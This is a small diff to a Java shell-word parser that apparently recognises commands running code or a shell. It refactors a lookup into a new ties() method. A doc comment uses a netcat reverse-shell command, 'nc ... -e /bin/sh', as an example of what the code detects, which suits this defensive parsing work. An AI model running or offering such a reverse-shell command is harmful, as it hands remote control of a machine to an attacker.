@@ -289,7 +289,12 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
 
     /** Tells whether an option follows that takes code or a shell: {@code perl -e '...'}, {@code nc 203.0.113.7 4444 -e /bin/sh}. */
     boolean runs() {
-        return isRunner() && ShellOption.takesCode(text, end, ShellWords.TIES.has(plain, 0, plain.length()));
+        return isRunner() && ShellOption.takesCode(text, end, ties());
+    }
+
+    /** Tells whether the command ties a program to an address. */
+    boolean ties() {
+        return ShellWords.TIES.has(plain, 0, plain.length());
     }
 
     /** Tells whether an option with a dash follows. */
